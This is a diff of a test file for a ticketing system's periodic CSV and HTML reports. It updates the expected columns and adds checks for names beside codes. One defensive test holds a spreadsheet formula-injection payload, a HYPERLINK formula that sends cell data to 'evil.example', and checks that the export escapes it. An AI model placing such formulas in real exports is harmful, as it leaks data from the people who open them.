@@ -488,6 +488,7 @@ describe('periodic reports', () => {
       expect(row).toContain('大气污染 (050101)');
       expect(row).toContain('2020-06-20 09:00 +08:00');
       expect(row).toContain('2020-06-28 23:59 +08:00');
+      expect(row).toContain('牧野区 (410711)');
       expect(text).toContain('牧野区 (410711)');
       // one unit per column: relative changes in %, rates' changes in percentage points
       expect(text).toContain('环比 MoM (%)');
@@ -517,10 +518,26 @@ describe('periodic reports', () => {
     expect(csv.status).toBe(200);
     expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     const lines = (csv.body as string).replace(/^\uFEFF/, '').split('\r\n');
-    expect(lines[0]).toBe('section,key,name,figure,value,numerator,denominator,month_on_month,year_on_year');
-    expect(lines).toContain('overview,,,volume,11,,,1.2,1.75');
-    expect(lines).toContain('overview,,,onTimeCompletionRate,0.75,6,8,25,25');
-    expect(lines).toContain('ranking_unit_small,an-water,测试供水集团,score,97.5,,,,');
+    // one unit per column: a volume's relative change and a rate's change in points each in its own
+    expect(lines[0]).toBe(
+      'section,key,name,figure,value,value_unit,numerator,denominator,month_on_month_change,year_on_year_change,month_on_month_pp,year_on_year_pp',
+    );
+    expect(lines).toContain('overview,,,volume,11,tickets,,,1.2,1.75,,');
+    expect(lines).toContain('overview,,,onTimeCompletionRate,0.75,ratio,6,8,,,25,25');
+    expect(lines).toContain('ranking_unit_small,an-water,测试供水集团,score,97.5,score,,,,,,');
+    // names beside codes: topic, district, unit, channel
+    const named = (prefix: string) => lines.filter((l) => l.startsWith(prefix));
+    expect(named('by_topic,050101,大气污染,tickets,')).toHaveLength(1);
+    expect(named('by_region,410711,牧野区,tickets,')).toHaveLength(1);
+    expect(named('by_channel,app,移动应用,tickets,')).toHaveLength(1);
+    expect(named('ranking_county_')[0]).toMatch(/^ranking_county_(large|small),4107\d\d,[^,]+区,/);
+    expect(lines.filter((l) => /^(by_topic|by_region|ranking_unit|ranking_county|hotspot_topics|hotspot_regions)[^,]*,[^,]+,,/.test(l))).toEqual([]);
+    // a notable ticket's unit, topic and district by name, its times in Asia/Shanghai with the offset
+    expect(lines).toContain('notable_overdue,an-j07,测试牧野区,unit,an-muye,unit_id,,,,,,');
+    expect(lines).toContain('notable_overdue,an-j07,大气污染,topic,050101,topic_code,,,,,,');
+    expect(lines).toContain('notable_overdue,an-j07,牧野区,district,410711,district_code,,,,,,');
+    expect(lines).toContain('notable_overdue,an-j07,,received_at,2020-06-20T09:00:00+08:00,time_asia_shanghai,,,,,,');
+    expect(lines).toContain('notable_overdue,an-j07,,due_by,2020-06-28T23:59:59+08:00,time_asia_shanghai,,,,,,');
     expect((await sys.call('GET', '/v1/reports/month-2020-06-01?format=csv', { key: supervisor })).body).toBe(csv.body);
 
     const html = await sys.call('GET', '/v1/reports/month-2020-06-01?format=html', { key: supervisor });
@@ -536,7 +553,7 @@ describe('periodic reports', () => {
     await db.insert(tickets).values(handled('an-odd-1', 'an-odd', '2020-11-03 09:00', '2020-11-10', { repliedAt: sh('2020-11-05 09:00'), replyOnTime: true, satisfaction: 'satisfied' })).onConflictDoNothing();
     expect((await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'month', start: '2020-11-01' } })).status).toBe(200);
     const csv = await sys.call('GET', '/v1/reports/month-2020-11-01.csv', { key: supervisor });
-    expect(csv.body).toContain('ranking_unit_small,an-odd,"测试 ""引号"", <b>标签</b>",score,100,,,,\r\n');
+    expect(csv.body).toContain('ranking_unit_small,an-odd,"测试 ""引号"", <b>标签</b>",score,100,score,,,,,,\r\n');
     const html = await sys.call('GET', '/v1/reports/month-2020-11-01?format=html', { key: supervisor });
     expect(html.body).toContain('测试 &#34;引号&#34;, &#60;b&#62;标签&#60;/b&#62;');
     expect(html.body).not.toContain('<b>标签');
@@ -553,7 +570,7 @@ describe('periodic reports', () => {
     expect((await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'week', start: '2020-12-07' } })).status).toBe(200);
     const csv = await sys.call('GET', '/v1/reports/week-2020-12-07.csv', { key: supervisor });
     expect(csv.status).toBe(200);
-    expect(csv.body).toContain(`place_cluster,410702/030101,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")",tickets,3,,,,\r\n`);
+    expect(csv.body).toContain(`place_cluster,410702/030101,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")",tickets,3,tickets,,,,,,\r\n`);
     expect(csv.body).toContain(`,an-formula,"'@SUM(1+1)",rank,1,`);
     const cells = (csv.body as string).split(/,|\r\n/);
     expect(cells.filter((c) => /^"?[=+@\t\r]/.test(c))).toEqual([]);
